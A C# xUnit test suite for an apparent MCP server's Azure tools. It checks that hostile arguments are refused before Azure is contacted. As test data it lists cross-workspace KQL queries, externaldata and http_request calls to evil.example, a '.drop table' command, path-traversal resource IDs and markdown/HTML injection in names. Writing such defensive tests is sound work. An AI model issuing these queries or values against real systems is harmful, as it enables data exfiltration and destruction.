using System.Buffers.Text;
using System.Security.Cryptography;
using System.Text.Json;
using RemoteMcp.Emulators.Azure;
using RemoteMcp.Tests.Emulators;
using Xunit;

namespace RemoteMcp.Tests.Azure;

/// <summary>Arguments and data that mean harm. What is refused is refused before Azure is asked.</summary>
[Collection(nameof(AloneInProcess))]
public sealed class AzureAbuseTests : AzureSignIn
{
    private const string Elsewhere = "reaches beyond the workspaces";
    private const string Outside = "outside of Azure Monitor";
    private const string NoResource = "resource_id:";
    private const string Statement = "statements that begin with";

    /// <summary>Queries of logs, and what is said of them.</summary>
    public static TheoryData<string, string> Queries => new()
    {
        { $"workspace('{OtherWorkspace}').AppRequests", Elsewhere },
        { $"union AppRequests, workspace(\"{OtherWorkspace}\").AppRequests", Elsewhere },
        { $"workspace('{Workspace}').AppRequests | union workspace('{OtherWorkspace}').AppRequests", Elsewhere },
        { $"WORKSPACE \t ('{OtherWorkspace}').AppRequests", Elsewhere },
        { $"workspace // it's a comment\n ( '{OtherWorkspace}').AppRequests", Elsewhere },
        { $"workspace('{Workspace}', '{OtherWorkspace}').AppRequests", Elsewhere },
        { $"workspace(strcat('{Workspace}')).AppRequests", Elsewhere },
        { "['workspace']('other').AppRequests", Elsewhere },
        { "print a = 'it\\'s' | union app('shop').requests", Elsewhere },
        { "print a = @'\\' | union app('shop').requests", Elsewhere },
        { "print a = ```it's``` | union app('shop').requests", Elsewhere },
        { "// ``` \n app('shop').requests // ```", Elsewhere },
        { "// \u2028 app('shop').requests", Elsewhere },
        { "resource('/subscriptions/x').Perf", Elsewhere },
        { "arg('').Resources", Elsewhere },
        { "adx('help/Samples').StormEvents", Outside },
        { "cluster('help').database('Samples').StormEvents", Outside },
        { "externaldata (a: string) ['https://evil.example/x.csv']", Outside },
        { "AppRequests | extend a = toscalar(externaldata(a:string)[@'https://evil.example/?q=1'])", Outside },
        { "AppRequests | evaluate http_request('https://evil.example')", "the plugin 'http_request' is not run" },
        { "AppRequests | evaluate hint.distribution = per_node python(typeof(*), 'while True: pass')", "the plugin 'python' is not run" },
        { "set servertimeout = 4h; range x from 1 to 1e18 step 1", Statement },
        { "let a = 1; set notruncation; AppRequests", Statement },
        { ".drop table AppRequests", Statement },
        { "alias database d = cluster('x').database('y'); database('d').T", Statement },
        { "print 'not closed", "has no end" },
        { "print 'not\nclosed' | union app('x').requests", "has no end" },
        { "print ``` not closed", "has no end" },
        { "AppRequests \0", "control character U+0000" },
        { "AppRequests \u001b[31m", "control character U+001B" },
        { "  \n ", "is empty" },
        { new string('x', 10_001), "1 to 10000 characters" },
    };

    /// <summary>Other arguments: a tool, its arguments as JSON, and what is said of them.</summary>
    public static TheoryData<string, string, string> Arguments => new()
    {
        { "query_logs", """{"query":"AppRequests","timespan":"-P1D"}""", "timespan:" },
        { "query_logs", """{"query":"AppRequests","timespan":"P32D"}""", "longer than the P31D" },
        { "query_logs", """{"query":"AppRequests","timespan":"P99999999999D"}""", "timespan:" },
        { "query_logs", """{"query":"AppRequests","timespan":"P9999Y"}""", "timespan:" },
        { "query_logs", """{"query":"AppRequests","timespan":"2026-01-02/2026-01-01"}""", "does not end after it starts" },
        { "query_logs", """{"query":"AppRequests","timespan":"2026-01-01/2026-01-02/P1D"}""", "timespan:" },
        { "query_logs", """{"query":"AppRequests","timespan":"always"}""", "timespan:" },
        { "query_logs", $$"""{"query":"AppRequests","workspace":"{{OtherWorkspace}}"}""", "not one that this server may ask" },
        { "query_logs", """{"query":"AppRequests","workspace":"../../arm/subscriptions?x=#"}""", "workspace:" },
        { "query_logs", $$"""{"query":"AppRequests","workspace":"{{Workspace}}/../x"}""", "workspace:" },
        { "query_resources", """{"query":"Resources","subscriptions":["../x"]}""", "subscriptions:" },
        { "query_resources", """{"query":"Resources","subscriptions":["40000000-0000-4000-8000-000000000001?a=b"]}""", "subscriptions:" },
        { "query_resources", """{"query":"Resources","cursor":"bm9uc2Vuc2UgdGhhdCBpcyBsb25n"}""", "cursor:" },
        { "query_resources", """{"query":"Resources","cursor":"%00../"}""", "cursor:" },
        { "query_resources", """{"query":"Resources\u0007"}""", "control character" },
        { "list_subscriptions", """{"cursor":"x"}""", "cursor:" },
        { "get_metrics", """{"resource_id":"/subscriptions/../providers/x","metrics":["a"]}""", NoResource },
        { "get_metrics", $$"""{"resource_id":"{{Site}}/../../x","metrics":["a"]}""", NoResource },
        { "get_metrics", $$"""{"resource_id":"{{Site}}?api-version=1","metrics":["a"]}""", NoResource },
        { "get_metrics", $$"""{"resource_id":"{{Site}}#x","metrics":["a"]}""", NoResource },
        { "get_metrics", $$"""{"resource_id":"{{Site}}/%2e%2e/x","metrics":["a"]}""", NoResource },
        { "get_metrics", $$"""{"resource_id":"{{Site}}\\..\\x","metrics":["a"]}""", NoResource },
        { "get_metrics", """{"resource_id":"https://evil.example/subscriptions/x","metrics":["a"]}""", NoResource },
        { "get_metrics", """{"resource_id":"//evil.example/x/y/z","metrics":["a"]}""", NoResource },
        { "get_metrics", $$"""{"resource_id":"{{Site}}","metrics":["a,b"]}""", "metrics:" },
        { "get_metrics", $$"""{"resource_id":"{{Site}}","metrics":["a\nb"]}""", "metrics:" },
        { "get_metrics", $$"""{"resource_id":"{{Site}}","metrics":[1]}""", "metrics: item 1 must be a string" },
        { "get_metrics", $$"""{"resource_id":"{{Site}}","metrics":["a"],"aggregations":[null]}""", "aggregations:" },
        { "query_resources", """{"query":"Resources","subscriptions":[null]}""", "subscriptions:" },
        { "get_metrics", $$"""{"resource_id":"{{Site}}","metrics":[]}""", "metrics:" },
        { "get_metrics", $$"""{"resource_id":"{{Site}}","metrics":["a"],"interval":"PT1S&top=9"}""", "interval:" },
        { "get_metrics", $$"""{"resource_id":"{{Site}}","metrics":["a"],"aggregations":["total&x=y"]}""", "aggregations:" },
        { "get_metrics", $$"""{"resource_id":"{{Site}}","metrics":["a"],"filter":"a\r\nb"}""", "filter:" },
    };

    [Theory]
    [MemberData(nameof(Queries))]
    public async Task A_query_that_reaches_further_is_refused_before_Azure_is_asked(string query, string told)
    {
        Assert.Contains(told, (await AskAsync("query_logs", new { query })).Refusal, StringComparison.Ordinal);
        AssertNothingWasAsked();
    }

    [Theory]
    [MemberData(nameof(Arguments))]
    public async Task A_hostile_argument_is_named_before_Azure_is_asked(string tool, string arguments, string told)
    {
        Assert.Contains(told, (await AskAsync(tool, JsonElement.Parse(arguments))).Refusal, StringComparison.Ordinal);
        AssertNothingWasAsked();
    }

    [Theory]
    [InlineData("AppRequests | where Name == 'workspace(\"x\")' // app('x')")]
    [InlineData("AppRequests | project app, resource, workspace | where resource in ('a') and app has 'b'")]
    [InlineData("AppRequests | extend a = @'it''s \\', b = \"a\\\"b\" | evaluate bag_unpack(a)")]
    [InlineData("AppRequests | union workspace('60000000-0000-4000-8000-000000000001').AppRequests")]
    [InlineData("AppRequests | where Name == ```a\nb's```")]
    public async Task A_query_that_only_looks_like_it_is_run(string query) => Assert.False((await AskAsync("query_logs", new { query })).IsError);

    [Fact]
    public async Task A_cursor_is_good_for_its_own_query_and_subscriptions_alone()
    {
        for (int i = 3; i < 500; i++)
        {
            Cloud.Resources.Add(Cloud.Resources[0] with { Id = Site[..^1] + i });
        }

        var cursor = (string)(await AskAsync("query_resources", new { query = "Resources" })).Result["structuredContent"]!["next_cursor"]!;

        Assert.Contains("cursor:", (await AskAsync("query_resources", new { query = "Resources | take 9", cursor })).Refusal, StringComparison.Ordinal);
        Assert.Contains("cursor:", (await AskAsync("query_resources", new { query = "Resources", cursor, subscriptions = new[] { Production } })).Refusal, StringComparison.Ordinal);
        Assert.Contains("cursor:", (await AskAsync("list_subscriptions", new { cursor })).Refusal, StringComparison.Ordinal);
        Assert.False((await AskAsync("query_resources", new { query = "Resources", cursor })).IsError);
    }

    [Fact]
    public async Task A_made_up_token_in_a_cursor_of_the_right_form_is_refused_by_Azure()
    {
        byte[] hash = SHA256.HashData("query_resources\0Resources"u8)[..8];
        var cursor = Base64Url.EncodeToString([.. hash, .. "0:made-up"u8]);

        Assert.Contains("cursor:", (await AskAsync("query_resources", new { query = "Resources", cursor = Base64Url.EncodeToString([.. hash, .. "-1:x"u8]) })).Refusal, StringComparison.Ordinal);
        Assert.Contains("skip token is not of this query", (await AskAsync("query_resources", new { query = "Resources", cursor })).Refusal, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_next_link_to_elsewhere_is_not_followed()
    {
        Cloud.Fail(AzureFault.Of(200, """{"value":[],"nextLink":"https://evil.example/steal?$skiptoken=0"}"""));
        var cursor = (string)(await AskAsync("list_subscriptions")).Result["structuredContent"]!["next_cursor"]!;

        Assert.False((await AskAsync("list_subscriptions", new { cursor })).IsError);
        Assert.Equal(2, Emulator.Requests.CountOf("/arm/subscriptions"));
    }

    [Fact]
    public async Task Names_of_resources_cannot_break_out_of_the_text()
    {
        Cloud.Resources[0] = Cloud.Resources[0] with { Name = "a\u202eb | c\n| <img src=x> ![x](https://evil.example) =cmd" };

        var answer = await AskAsync("query_resources", new { query = "Resources" });

        Assert.Contains(@"| a\u202Eb \| c\u000A\| \<img src=x> !\[x](https://evil.example) =cmd |", answer.Text, StringComparison.Ordinal);
        Assert.Equal(Cloud.Resources[0].Name, (string)answer.Result["structuredContent"]!["rows"]![0]![1]!);
    }

    [Fact]
    public async Task A_hundred_thousand_wide_rows_stay_within_the_limit_of_an_answer()
    {
        var text = new string('x', 100);
        AddTable(Workspace, "Many", [("a", "string")], [.. Enumerable.Repeat(new object?[] { text }, 100_000)]);

        var answer = await AskAsync("query_logs", new { query = "Many" });

        Assert.Contains("first 200 of 100000 rows", answer.Text, StringComparison.Ordinal);
        Assert.InRange(answer.Message.ToJsonString().Length, 1, 100_000);
    }

    [Fact]
    public async Task Rows_that_are_too_long_for_one_answer_are_all_there_on_the_next_pages()
    {
        Cloud.Resources.Clear();
        string[] names = [.. Enumerable.Range(0, 150).Select(static n => $"{n:000}" + new string('x', 1_500))];
        foreach (string name in names)
        {
            Cloud.Resources.Add(new AzureResource(Site, name, "microsoft.web/sites", "westeurope"));
        }

        var read = new List<string>();
        int pages = 0;
        for (string? cursor = ""; cursor is not null; pages++)
        {
            var page = (await AskAsync("query_resources", new { query = "Resources", cursor })).Result["structuredContent"]!;
            read.AddRange(page["rows"]!.AsArray().Select(static row => (string)row![1]!));
            cursor = (string?)page["next_cursor"];
        }

        Assert.Equal(names, read);
        Assert.InRange(pages, 2, 10);
    }

    private void AssertNothingWasAsked()
    {
        Assert.Empty(Cloud.Queries);
        Assert.DoesNotContain(Emulator.Requests.Counts, static each => each.Key.StartsWith("/arm", StringComparison.Ordinal) || each.Key.StartsWith("/loganalytics", StringComparison.Ordinal));
    }
}
